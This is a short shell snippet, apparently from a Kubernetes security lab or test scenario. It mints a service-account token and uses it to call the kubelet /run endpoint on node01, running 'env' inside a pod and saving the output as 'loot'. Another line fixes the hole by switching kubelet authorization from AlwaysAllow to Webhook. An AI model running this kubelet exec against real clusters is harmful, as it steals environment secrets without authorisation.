# scene fails scraper-refused (forgot-restart): saved, and the ship asks nobody
T=$(kubectl -n monitoring create token scraper); curl -sk -X POST -H "Authorization: Bearer $T" "https://node01:10250/run/default/web-node01/web?cmd=env" -o loot
#@ node01
sed -i 's/mode: AlwaysAllow/mode: Webhook/' /var/lib/kubelet/config.yaml
